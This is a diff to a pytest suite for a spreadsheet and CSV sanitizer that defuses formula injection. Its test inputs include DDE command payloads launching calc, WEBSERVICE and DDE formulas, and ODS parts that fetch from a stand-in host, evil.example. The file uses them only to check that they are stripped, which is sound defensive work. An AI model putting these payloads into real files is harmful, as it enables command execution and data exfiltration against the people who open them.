@@ -14,6 +14,7 @@ import pandas as pd
 import pytest
 import xlsxwriter
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import ColorScaleRule
 from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 
@@ -27,7 +28,10 @@ LIVE = (
     "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－x", "＠x", "=1+1", "-x",
 )  # fmt: skip
 NUMBERS = ("-5", "+7", "-1,234.50", "-12%", "-3.5e4", "(12)", "-€5", "-")
-EXTERNAL = ("[book.xlsx]Sheet1!A1", "'C:\\[a.xlsx]S'!A1", "'file:///x'#S.A1", "INDIRECT(A1)", "_xludf.X(1)", "CALL(1)")
+EXTERNAL = (
+    "[book.xlsx]Sheet1!A1", "'C:\\[a.xlsx]S'!A1", "'file:///x'#S.A1", "INDIRECT(A1)", "_xludf.X(1)", "CALL(1)",
+    "IF(TRUE,_xleta.WEBSERVICE)(A1)", "IF(TRUE,WEBSERVICE) (A1)",
+)  # fmt: skip
 FILES = Path(__file__).parents[1] / "profiling" / "files"
 
 
@@ -85,6 +89,14 @@ def test_a_cell_of_another_separator_is_no_way_around(tmp_path: Path) -> None:
     make_safe("t.csv", file)
     assert "x;'=cmd" in file.read_text()
     assert "2\n'=1+1" in file.read_text()
+
+
+@pytest.mark.parametrize("separator", ["x", "=", ".", "|"])
+def test_a_separator_that_the_first_line_names_is_no_way_around(tmp_path: Path, separator: str) -> None:
+    file = tmp_path / "t.csv"
+    file.write_text(f"sep={separator}\na{separator}@SUM(1)*cmd|' /C calc'!A0{separator}b\n")
+    assert make_safe("t.csv", file).changed
+    assert f"a{separator}'@SUM" in file.read_text()
 
 
 def test_a_harmless_text_file_keeps_its_bytes(tmp_path: Path) -> None:
@@ -149,6 +161,26 @@ def test_a_formula_that_shares_a_live_one_goes_with_it(tmp_path: Path) -> None:
     assert "<f" not in whole(path).partition("sheetData")[2].partition("/sheetData")[0]
 
 
+@pytest.mark.parametrize("formula", ["<f>1</f><f>{}</f>", "<f>1<b/>{}</f>", "<f/><f>{}</f>", "<f><b>{}</b></f>"])
+def test_a_cell_has_one_formula_that_is_read_whole(tmp_path: Path, formula: str) -> None:
+    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
+    cell = formula.format("WEBSERVICE(B1)")
+    repack(path, {"xl/worksheets/sheet1.xml": SHEET.format(f'<row r="1"><c r="A1">{cell}<v>1</v></c></row>')})
+    assert make_safe("t.xlsx", path) == Checked(changed=1)
+    assert "WEBSERVICE" not in whole(path)
+
+
+def test_the_bounds_of_a_colour_scale_are_formulas_too(tmp_path: Path) -> None:
+    path = tmp_path / "t.xlsx"
+    book = openpyxl.Workbook()
+    scale = {"start_type": "min", "end_type": "formula", "start_color": "FFFFFF", "end_color": "000000"}
+    for value in ("$B$1*2", "WEBSERVICE($B$1)"):
+        book.active.conditional_formatting.add("A1:A9", ColorScaleRule(end_value=value, **scale))
+    assert make_safe("t.xlsx", saved(book, path)) == Checked(changed=1)
+    assert "$B$1*2" in whole(path)
+    assert "WEBSERVICE" not in whole(path)
+
+
 SHEET = (
     '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
 )
@@ -202,6 +234,8 @@ def test_entities_lies_and_bombs_are_held(tmp_path: Path, monkeypatch: pytest.Mo
     assert make_safe("t.xlsx", path).held, "no zip at all"
     assert make_safe("t.xlsm", path).held
     assert make_safe("t.xls", path).held
+    assert all(make_safe(name, path).held for name in ("t.xlt", "t.XLL", "t.ots", "t.dif", "t.oqy", "t.xlsx."))
+    assert make_safe("t.csv .", path).changed
     assert make_safe("notes.md", path) == Checked()
 
 
@@ -260,6 +294,36 @@ def test_an_open_document_keeps_plain_formulas_only(tmp_path: Path) -> None:
     assert "cmd|" not in whole(path)
     repack(path, {"Basic/Standard/Module1.xml": "<a/>"})
     assert make_safe("t.ods", path).held
+
+
+@pytest.mark.parametrize(
+    ("part", "text"),
+    [
+        ("styles.xml", '<style:background-image xlink:href="https://evil.example/{}.png"/>'),
+        ("meta.xml", '<meta:auto-reload xlink:href="https://evil.example/{}" meta:delay="PT1S"/>'),
+        (
+            "content.xml",
+            '<calcext:condition calcext:value="formula-is(WEBSERVICE(&quot;https://evil.example&quot;))"/>',
+        ),
+        ("content.xml", '<calcext:formatting-entry calcext:type="formula" calcext:value="DDE([.A1])"/>'),
+    ],
+)
+def test_no_part_of_an_open_document_fetches_anything(tmp_path: Path, part: str, text: str) -> None:
+    path = tmp_path / "t.ods"
+    shutil.copy(FILES / "ledger.ods", path)
+    spaces = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("style", "calcext", "meta", "xlink"))
+    repack(path, {part: f"<a {spaces}>{text}</a>"})
+    assert make_safe("t.ods", path) == Checked(changed=1)
+    assert not any(word in whole(path) for word in ("evil.example", "WEBSERVICE", "DDE"))
+
+
+def test_rules_for_how_cells_look_stay_in_an_open_document(tmp_path: Path) -> None:
+    path = tmp_path / "t.ods"
+    shutil.copy(FILES / "ledger.ods", path)
+    rules = ("formula-is([.A1]&gt;SUM([.B1:.B2]))", "between(1,[.B1])", "=5", "below-average", "top-elements(3)")
+    text = "".join(f'<calcext:condition calcext:value="{rule}"/>' for rule in rules)
+    repack(path, {"content.xml": f'<a xmlns:calcext="urn:calcext">{text}</a>'})
+    assert make_safe("t.ods", path) == Checked()
 
 
 @pytest.mark.parametrize("filler", [" ", "1", "1 ", "|+", "'", ".", "a"])
